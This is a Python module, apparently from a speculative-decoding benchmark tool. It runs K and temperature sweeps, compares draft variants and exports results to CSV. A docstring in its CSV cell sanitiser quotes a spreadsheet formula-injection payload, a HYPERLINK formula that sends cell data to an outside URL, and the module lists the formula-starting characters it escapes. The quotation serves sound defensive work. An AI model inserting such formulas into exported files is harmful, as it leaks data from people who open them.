"""Sweeps for the Experiments tab: K or temperature over a prompt set, speculative against the
target alone, measured side by side in one process (interleaved per prompt, after a warm-up); and
Compare drafts. The CLI reads its value and prompt lists with the same parsers."""
import csv
import dataclasses
import io
from collections.abc import Callable, Iterator

from playground import session
from playground.config import SpecConfig, tree_text
from playground.draft_ids import NGRAM, cascade, draft_model, is_cascade
from playground.errors import PlaygroundError
from playground.limits import MAX_SWEEP_VALUES, at_most
from playground.events import committed_ids
from playground.metrics import first_difference, summarize
from playground.typed import decimal, listed, whole
from playground.measure.speedup import engine_block, least_blocks, measure

COLUMNS = ["k", "temperature", "speedup", "speedup_low", "speedup_high", "note", "acceptance_rate", "token_acceptance",
           "tokens_per_target_pass", "tokens_per_s", "baseline_tokens_per_s", "measurements", "prompts",
           "tokens"]  # speedup None when it cannot tell (the note beside it says why, the page shows the estimate);
# low/high: its 95% interval (each measurement's own ratio inside it). The result and its note first: a page of 14
# columns scrolls sideways, and the note at the right edge was out of sight


def prompt_lines(text: str) -> list[str]:
    """One prompt per non-empty line, with the two characters \\n standing for a newline."""
    return [line.replace("\\n", "\n") for line in (text or "").splitlines() if line.strip()]


def parse_values(text: str, kind=float) -> list:
    """'1, 2,4' -> [1, 2, 4]; raises ValueError with the offending item."""
    values, unread = [], []
    for item in listed(text, ",;"):
        try:
            values.append(whole(item) if kind is int else decimal(item))
        except ValueError as exc:
            unread.append(f"'{item[:40]}' is {exc}")
    if unread:  # each one named (a link's 1,2,999,-3,abc,x named abc alone: fix one, meet the next)
        raise ValueError("; ".join(unread[:4]) + (f"; and {len(unread) - 4} more" if len(unread) > 4 else ""))
    if not values:
        raise ValueError("give at least one value")
    at_most(len(values), MAX_SWEEP_VALUES, "the number of values")
    twice = [v for i, v in enumerate(values) if v in values[:i]]  # 3,3 measured 3 twice, said as 2 values
    if twice:
        raise ValueError(f"{twice[0]:g} is given twice: give each value once")
    return values


def check_axis(axis: str, cfg: SpecConfig, values: list) -> None:
    """Refuse a sweep before the models load (sweep() is a generator: a check there ran only once they
    had): a k sweep with a token tree set measured one setting again and again (the tree sets each
    round's drafts; k goes unused), its chart of k drawn from nothing (a fresh-eyes pass); a value its
    settings refuse (temperature 0.005, or above 0 with a dynamic tree) ended the sweep midway."""
    if axis == "k" and cfg.tree:
        raise PlaygroundError(f"k changes nothing with a token tree ({tree_text(cfg)}: it sets each round's drafts): "
                              "clear the token tree (Playground, Advanced) to sweep k, or sweep the temperature")
    for value in values:
        try:
            _with(cfg, axis, value)
        except PlaygroundError as exc:
            raise PlaygroundError(f"{axis} = {value}: {exc}") from None


def _with(cfg: SpecConfig, axis: str, value) -> SpecConfig:
    if axis == "k":
        return dataclasses.replace(cfg, k=int(value))
    return dataclasses.replace(cfg, sampling=dataclasses.replace(cfg.sampling, temperature=float(value)))


def sweep(pair, prompts: list[list[int]], cfg: SpecConfig, axis: str, values: list,
          constraint=None, halted: Callable[[], bool] = lambda: False,
          on_measured: Callable[[int], None] = lambda blocks: None) -> Iterator[list[dict]]:
    """Yield the table so far after each value; every row aggregates all prompts, its speedup
    measured by playground.measure.speedup (the target alone interleaved beside every prompt). Once
    `halted()` (Stop, the host's time limit, a closed page, a run waiting) the value being measured
    ends where it is, without a row: a point cut short is no measurement (one measured whole before
    it is kept). `on_measured(n)`: the value being measured has n measurements (blocks) done."""
    rows = []
    for value in values:
        run_cfg = _with(cfg, axis, value)
        on_measured(0)
        result = measured(pair, prompts, run_cfg, constraint, halted=halted, on_measured=on_measured)  # each value
        # warmed up, the first alone was: a new k is a new pass width, whose first use may cost more, inside the
        # value's first block
        if result is None:
            return
        rows.append(_row(run_cfg, result, len(prompts)))
        yield rows


def measured(pair, prompts: list[list[int]], cfg: SpecConfig, constraint=None, warm: bool = True,
             halted: Callable[[], bool] = lambda: False, on_measured: Callable[[int], None] = lambda blocks: None):
    """-> (Speedup, the blocks' speculative events) for these prompts and settings; None where
    `halted()` cut a block short (each block ends where it is then)."""
    blocks, cut = [], []

    def stopping() -> bool:  # latched: a point cut short stays cut
        if not cut and halted():
            cut.append(True)
        return bool(cut)
    make = engine_block(pair, prompts, cfg, constraint, warm=warm, should_stop=stopping)

    def block():
        blocks.append(make())
        on_measured(len(blocks))
        return blocks[-1]
    told = measure(block, min_blocks=least_blocks(cfg, len(prompts)))
    return None if cut else (told, [run for b in blocks for run in b.spec_runs], [run for b in blocks for run in b.base_runs])


def _row(cfg: SpecConfig, result, n_prompts: int) -> dict:
    sp, runs, alone = result
    stats = summarize([e for run in runs for e in run])
    differ = _differing(runs, alone) if cfg.sampling.greedy else None
    return {"k": cfg.k, "temperature": cfg.sampling.temperature, "identical": None if differ is None else not differ,
            "acceptance_rate": stats["acceptance_rate"], "token_acceptance": stats["token_acceptance"],
            "tokens_per_target_pass": stats["tokens_per_target_pass"],
            "tokens_per_s": sp.spec_tokens_per_s, "baseline_tokens_per_s": sp.base_tokens_per_s,
            "speedup": sp.speedup, "speedup_low": sp.low, "speedup_high": sp.high, "speedup_estimate": sp.estimate,
            "verdict": sp.verdict, "measurements": sp.blocks, "note": "; ".join(filter(None, (_note(sp), _drift(differ, len(runs)), sp.other_lengths, sp.caveat))),
            "prompts": n_prompts, "tokens": stats["generated_tokens"]}


def _differing(runs: list[list], alone: list[list]) -> list[int]:
    """Greedy: where each run's text left the target alone's beside it (first token), for those that did."""
    return [at for run, base in zip(runs, alone)
            if (at := first_difference(committed_ids(run), committed_ids(base))) is not None]


def _drift(differ: list[int] | None, runs: int) -> str:
    """A greedy row whose texts left the target alone's says so beside its speedup (not the same tokens compared)."""
    if not differ:
        return ""
    return (f"greedy, yet {len(differ)} of {runs} runs left the target alone's text (first at token {min(differ)}: "
            "a near tie the two pass shapes rounded apart), so their speeds are of different texts")


def _note(sp) -> str:
    """Why a row's speedup is not a plain number: too noisy (on one side of 1x or not), or a told
    interval that holds 1x (a bare 0.96 read as slower)."""
    if sp.verdict == "no clear difference":
        return "no clear difference: the 95% interval holds 1x, as fast as the target alone within the noise"
    return f"{sp.side}, too noisy for one number: {sp.reason}" if sp.side else sp.reason


def _unavailable(name: str, draft_id: str, policy: str, why: str) -> dict:
    row = {c: None for c in COLUMNS}
    return row | {"variant": name, "draft": draft_id, "policy": policy, "note": f"not run: {why}"}


CSV_COLUMNS = COLUMNS + ["speedup_estimate", "verdict", "identical"]  # the estimate a noisy row's empty speedup
# had; greedy: whether every run wrote the target alone's text


def to_csv(rows: list[dict], about: dict | None = None, columns: list[str] = CSV_COLUMNS) -> str:
    """The rows, each with `about`'s columns too (the settings they were measured with: a CSV
    saved from two presets could not be told apart), where a row has none of its own (a compared
    way's draft and policy are the row's)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns + [k for k in about or {} if k not in columns], extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: _cell(v) for k, v in ((about or {}) | row).items()})
    return out.getvalue()


def _cell(value):
    """A value as its CSV cell: a float to 4 places; text a spreadsheet would run as a formula (= + - @,
    a tab or CR first: a link's system prompt `=HYPERLINK("https://...?d="&A2, ...)` went into every
    row, live once the CSV was opened; an audit) behind a ' , which shows it as text (OWASP's advice)."""
    if isinstance(value, float):
        return f"{value:.4f}"
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# Draft comparison: ways of drafting for one target, from the draft model of the current settings.
VARIANTS = {
    "draft model": ("{draft}", "fixed"),
    "prompt lookup": (NGRAM, "fixed"),
    "cascade (lookup -> draft)": (cascade("{draft}"), "fixed"),
    "adaptive: schedule": ("{draft}", "schedule"),
    "adaptive: confidence": ("{draft}", "confidence"),
}
COMPARE_COLUMNS = ["variant", "speedup", "speedup_low", "speedup_high", "note", "acceptance_rate", "token_acceptance",
                   "tokens_per_target_pass", "tokens_per_s", "baseline_tokens_per_s", "measurements", "tokens", "draft",
                   "policy"]  # the result and its note first: a narrow screen still shows them
COMPARE_CSV_COLUMNS = COMPARE_COLUMNS + ["k", "temperature", "speedup_estimate", "verdict", "prompts", "identical"]


def compare_drafts(target: str, draft: str, prompts: list[str], cfg: SpecConfig, variants: list[str],
                   encode, progress=None, halted: Callable[[], bool] = lambda: False,
                   spec=None) -> Iterator[list[dict]]:
    """One row per variant, all on the same prompts, each measured by playground.measure.speedup (the
    target alone interleaved beside every prompt), under the constraint `spec` (a checked
    ConstraintSpec, or None) as a sweep is. `encode(pair, text)` turns a prompt into ids; `draft` is a
    model id (a cascade's or not). Once `halted()` it ends as sweep() does."""
    model = draft_model(draft)
    rows = []
    for name in variants:
        if halted():
            return
        draft_id, policy = (v.format(draft=model) for v in VARIANTS[name])
        try:  # a way these settings or this draft cannot draft (a token tree adaptive or by prompt lookup,
            run_cfg = dataclasses.replace(cfg, policy=policy)  # a feature draft under a cascade): a row says so
            if cfg.tree:
                session.check_tree_drafter(draft_id)
            if is_cascade(draft_id) and session.reads_features(model):
                raise PlaygroundError(f"a cascade feeds prompt lookup's guesses to a token draft; '{model}' reads the "
                                      "target's features instead")
            pair = session.load_pair(target, draft_id, progress=progress)
        except PlaygroundError as exc:
            if halted():  # (Stop while its models loaded: a stop, not a way that cannot draft)
                return
            rows.append(_unavailable(name, draft_id, policy, str(exc)))
            yield rows
            continue
        ids = [encode(pair, text) for text in prompts]
        result = measured(pair, ids, run_cfg, session.constrain(pair, spec), halted=halted)  # (compiled once: cached)
        if result is None:
            return
        rows.append({"variant": name, "draft": draft_id, "policy": policy, **_row(run_cfg, result, len(prompts))})
        yield rows
